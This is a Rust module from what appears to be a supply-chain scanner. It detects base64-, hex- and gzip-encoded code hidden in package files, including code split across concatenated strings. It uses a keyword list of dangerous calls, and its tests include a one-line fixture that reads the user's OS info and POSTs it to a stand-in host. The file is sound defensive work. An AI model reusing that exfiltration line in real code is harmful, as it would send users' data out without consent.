//! Code that files carry in an encoding: read even where nobody is seen to decode it.
//!
//! What decodes it may hide behind any library, or in another package. The code is a layer of
//! its file, and runs when that is loaded as far as anybody can tell.

use std::io::Read as _;

use super::package::Package;
use super::shifted::unshifted;
use super::uses::Use;
use crate::model::{FileId, Reach, Span};
use crate::source::{ENCODED, Kind, Layer, is_code};
use crate::value::{Place, from_base64, from_hex};

/// Characters of the shortest text that is decoded, and of the shortest piece of one that code
/// puts together.
const LEAST: usize = 64;
const PIECE: usize = 24;
/// Bytes of one program, and of all of a package.
const MOST_BYTES: usize = 1 << 20;
const MOST_TOGETHER: usize = 16 << 20;
/// Codes of one package that are read.
const MOST_CODES: usize = 64;
/// One of these stands in code that does something.
const WORDS: [&str; 15] = [
    "XMLHttpRequest",
    "child_process",
    "document.",
    "eval(",
    "exec(",
    "fetch(",
    "function",
    "globalThis",
    "import(",
    "navigator.",
    "new WebSocket",
    "process.",
    "require(",
    "window.",
    "=>",
];

/// Adds what code, data and texts of the package carry to its layers. What already is a layer
/// of the same file is known to run.
pub(crate) fn add_encoded(package: &mut Package<'_>, kinds: &[Kind], uses: &[Use]) {
    let archive = package.archive;
    let mut left = MOST_TOGETHER;
    let mut found: Vec<Layer> = Vec::new();
    for (file, &kind) in (0..).map(FileId).zip(kinds) {
        let is_map = archive.path(file).ends_with(".map");
        let is_data = matches!(
            kind,
            Kind::Config | Kind::Json | Kind::Markdown | Kind::Text
        );
        if (is_code(kind) || is_data) && !is_map {
            of_file(file, archive.bytes(file), &mut left, &mut found);
        }
        if is_data && let Some(text) = unshifted(archive.bytes(file)) {
            let end = u32::try_from(archive.bytes(file).len()).unwrap_or(u32::MAX);
            found.push(Layer {
                file,
                span: Span::new(0, end),
                kind: ENCODED,
                text,
                is_sure: false,
            });
        }
    }
    let layers = package.graph.layers();
    for (file, layer) in (kinds.len()..).zip(layers.iter()) {
        let file = FileId(u32::try_from(file).unwrap_or(u32::MAX));
        of_file(file, layer.text.as_bytes(), &mut left, &mut found);
    }
    let runs = |one: &Layer| {
        layers.iter().any(|known| {
            known.kind != ENCODED
                && layers.home(known.file) == layers.home(one.file)
                && known.text.trim() == one.text.trim()
        })
    };
    let new: Vec<Layer> = found.into_iter().filter(|one| !runs(one)).collect();
    for layer in new.into_iter().take(MOST_CODES) {
        let mut reach = package.graph.reach(layer.file);
        reach.join(read_by(archive.path(layer.file), uses));
        package.graph.add_layer(layer, reach);
    }
}

/// When code reads a file of data, as far as the names of what it reads tell.
pub(crate) fn read_by(path: &str, uses: &[Use]) -> Reach {
    let name = path.rsplit('/').next().unwrap_or(path);
    let mut reach = Reach::DORMANT;
    for one in uses {
        let mut targets = one.effects.iter().flat_map(|effect| &effect.targets);
        let is_it = |text: &str| text.rsplit('/').next() == Some(name);
        if targets.any(|target| target.text.as_deref().is_some_and(is_it)) {
            reach.join(one.reach);
        }
    }
    reach
}

/// The programs that were found so and could be read: each one's file, and where it stands.
pub(crate) fn encoded(package: &Package<'_>) -> Vec<(FileId, Place)> {
    let first = u32::try_from(package.archive.entries.len()).unwrap_or(u32::MAX);
    let layers = (first..).map(FileId).zip(package.graph.layers().iter());
    let read =
        layers.filter(|(file, layer)| layer.kind == ENCODED && package.facts_of(*file).is_some());
    read.map(|(file, layer)| {
        let place = Place {
            file: layer.file,
            span: layer.span,
        };
        (file, place)
    })
    .collect()
}

fn of_file(file: FileId, bytes: &[u8], left: &mut usize, found: &mut Vec<Layer>) {
    // A piece that is long enough holds one of these places.
    let mut at = PIECE - 1;
    while let Some(&byte) = bytes.get(at) {
        let mut end = at;
        if is_digit(byte) {
            let (before, after) = bytes.split_at(at);
            let start = at - count(before.iter().rev());
            end = at + count(after.iter());
            let mut run = bytes.get(start..end).unwrap_or(&[]).to_vec();
            let mut start = start;
            if run.len() >= PIECE {
                end = with_next(bytes, end, &mut run);
                start = with_last(bytes, start, &mut run);
            }
            let run = std::str::from_utf8(&run).ok();
            if let Some(run) = run.filter(|run| run.len() >= LEAST)
                && *left > 0
                && let Some(text) = decoded(run)
            {
                *left = left.saturating_sub(text.len());
                let narrow = |at: usize| u32::try_from(at).unwrap_or(u32::MAX);
                found.push(Layer {
                    file,
                    span: Span::new(narrow(start), narrow(end)),
                    kind: ENCODED,
                    text,
                    is_sure: false,
                });
            }
        }
        at = end + PIECE;
    }
}

fn count<'a>(bytes: impl Iterator<Item = &'a u8>) -> usize {
    bytes.take_while(|&&byte| is_digit(byte)).count()
}

/// Adds the texts before it in the same way; gives where the first of them starts.
fn with_last(bytes: &[u8], mut start: usize, run: &mut Vec<u8>) -> usize {
    /// Pieces that are too short to be found by themselves.
    const MOST: usize = 64;
    let mut before: Vec<&[u8]> = Vec::new();
    for _ in 0..MOST {
        let Some(quote) = start
            .checked_sub(1)
            .and_then(|at| bytes.get(at))
            .filter(|b| is_quote(b))
        else {
            break;
        };
        let head = bytes.get(..start - 1).unwrap_or(&[]);
        let gap = head
            .iter()
            .rev()
            .take(MOST_BLANKS)
            .take_while(is_between)
            .count();
        let (head, between) = head.split_at(head.len() - gap);
        let Some((last, head)) = head.split_last().filter(|_| is_joined(between)) else {
            break;
        };
        let length = count(head.iter().rev());
        let opens = head
            .len()
            .checked_sub(length + 1)
            .and_then(|at| bytes.get(at));
        if !is_quote(last) || length == 0 || length >= PIECE || opens != Some(last) || quote != last
        {
            break;
        }
        before.push(head.get(head.len() - length..).unwrap_or(&[]));
        start = head.len() - length;
    }
    for piece in before {
        run.splice(0..0, piece.iter().copied());
    }
    start
}

/// Blanks between two texts.
const MOST_BLANKS: usize = 64;

fn is_quote(byte: &u8) -> bool {
    matches!(byte, b'"' | b'\'' | b'`')
}

fn is_between(byte: &&u8) -> bool {
    byte.is_ascii_whitespace() || matches!(byte, b',' | b'+')
}

fn is_joined(between: &[u8]) -> bool {
    between.iter().any(|byte| matches!(byte, b',' | b'+'))
}

/// Adds the texts that follow as the next items of a list, or behind a plus; gives where the last
/// of them ends.
fn with_next(bytes: &[u8], mut end: usize, run: &mut Vec<u8>) -> usize {
    while let Some(quote) = bytes.get(end).filter(|byte| is_quote(byte)) {
        let rest = bytes.get(end + 1..).unwrap_or(&[]);
        let between = rest.iter().take(MOST_BLANKS).take_while(is_between).count();
        let gap = rest.get(..between).unwrap_or(&[]);
        if !is_joined(gap) || rest.get(between) != Some(quote) {
            break;
        }
        let next = rest.get(between + 1..).unwrap_or(&[]);
        let length = count(next.iter());
        if length == 0 || next.get(length) != Some(quote) {
            break;
        }
        run.extend_from_slice(next.get(..length).unwrap_or(&[]));
        end += between + 2 + length;
    }
    end
}

/// A digit of base64 in either alphabet; those of hex are among them.
fn is_digit(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=')
}

/// The code that a text of such digits stands for, if it is any.
fn decoded(run: &str) -> Option<String> {
    let is_hex = run.len().is_multiple_of(2) && run.bytes().all(|byte| byte.is_ascii_hexdigit());
    // What is no text at the start is none at all.
    let head = run.get(..LEAST)?;
    let read: fn(&str) -> Vec<u8> = if is_hex { from_hex } else { from_base64 };
    let bytes = match packed(&read(head)) {
        Some(Packed::Plain) => read(run.get(..MOST_BYTES).unwrap_or(run)),
        Some(packed) => unpacked(&packed, &read(run.get(..MOST_BYTES).unwrap_or(run)))?,
        None => return None,
    };
    let text = String::from_utf8(bytes).ok()?;
    is_program(&text).then_some(text)
}

/// What decoded bytes begin with.
enum Packed {
    Plain,
    Gzip,
    Zlib,
}

fn packed(head: &[u8]) -> Option<Packed> {
    match head {
        [0x1f, 0x8b, 8, ..] => Some(Packed::Gzip),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => Some(Packed::Zlib),
        _ => head
            .iter()
            .all(|&byte| is_text(byte))
            .then_some(Packed::Plain),
    }
}

fn is_text(byte: u8) -> bool {
    !byte.is_ascii_control() || matches!(byte, b'\t' | b'\n' | b'\r')
}

fn unpacked(packed: &Packed, bytes: &[u8]) -> Option<Vec<u8>> {
    let mut text = Vec::new();
    let most = MOST_BYTES as u64;
    let read = match packed {
        Packed::Gzip => flate2::read::GzDecoder::new(bytes)
            .take(most)
            .read_to_end(&mut text),
        _ => flate2::read::ZlibDecoder::new(bytes)
            .take(most)
            .read_to_end(&mut text),
    };
    read.is_ok().then_some(text)
}

/// Whether a text may be a program that does something. Data and pages are none.
fn is_program(text: &str) -> bool {
    let start = text.trim_start();
    let is_data = start.starts_with(['<', '[']) || start.starts_with("{\"");
    !is_data
        && text.bytes().all(is_text)
        && text.contains('(')
        && WORDS.iter().any(|word| text.contains(word))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::value::bytes_to_text as to_text;

    const CODE: &str = "const all = require('os').userInfo(); fetch('https://x.invalid/', { method: 'POST', body: all });";

    fn found(text: &str) -> Vec<String> {
        let (mut left, mut found) = (MOST_BYTES, Vec::new());
        of_file(FileId(0), text.as_bytes(), &mut left, &mut found);
        found.into_iter().map(|layer| layer.text).collect()
    }

    #[test]
    fn code_is_found_in_any_encoding() {
        for encoding in ["base64", "base64url", "hex"] {
            let run = to_text(CODE.as_bytes(), encoding).expect("an encoding");
            assert_eq!(found(&format!("// see {run} below")), [CODE], "{encoding}");
        }
    }

    #[test]
    fn code_in_pieces_is_found() {
        let run = to_text(CODE.as_bytes(), "base64").expect("an encoding");
        let pieces: Vec<&str> = run
            .as_bytes()
            .chunks(30)
            .map(|piece| std::str::from_utf8(piece).expect("digits"))
            .collect();
        for (between, quote) in [("',\n    '", "'"), ("\" + \"", "\"")] {
            assert_eq!(
                found(&format!("x = {quote}{}{quote};", pieces.join(between))),
                [CODE]
            );
        }
        // A short piece before them belongs to them.
        let (first, rest) = run.split_at(2);
        assert_eq!(found(&format!("['{first}', '{rest}']")), [CODE]);
        // Those of another list are another text.
        assert_eq!(
            found(&format!("'{}'", pieces.join("'], ['"))),
            Vec::<String>::new()
        );
    }

    #[test]
    fn packed_code_is_found() {
        use std::io::Write as _;
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packed.write_all(CODE.repeat(3).as_bytes()).expect("memory");
        let packed = packed.finish().expect("memory");
        let run = to_text(&packed, "base64").expect("an encoding");
        assert_eq!(found(&format!("x = '{run}'")), [CODE.repeat(3)]);
    }

    #[test]
    fn other_things_in_base64_are_no_code() {
        let page = format!("<script>{CODE}</script>");
        let map = format!("{{\"version\":3,\"sourcesContent\":[\"{CODE}\"]}}");
        let words = "a word and another, and all of it (in brackets) says nothing of a program.";
        for text in [page.as_str(), map.as_str(), words] {
            let run = to_text(text.as_bytes(), "base64").expect("an encoding");
            assert_eq!(found(&run), Vec::<String>::new());
        }
        let bytes: Vec<u8> = (0..200).collect();
        assert_eq!(
            found(&to_text(&bytes, "base64").expect("an encoding")),
            Vec::<String>::new()
        );
    }

    #[test]
    fn packed_programs_share_what_all_may_take() {
        use std::io::Write as _;
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let program = format!("fetch('x');{}", " ".repeat(1 << 19));
        packed.write_all(program.as_bytes()).expect("memory");
        let packed = packed.finish().expect("memory");
        let run = to_text(&packed, "base64").expect("an encoding");
        assert_eq!(found(&format!("'{run}'\n").repeat(50)).len(), 2);
    }
}
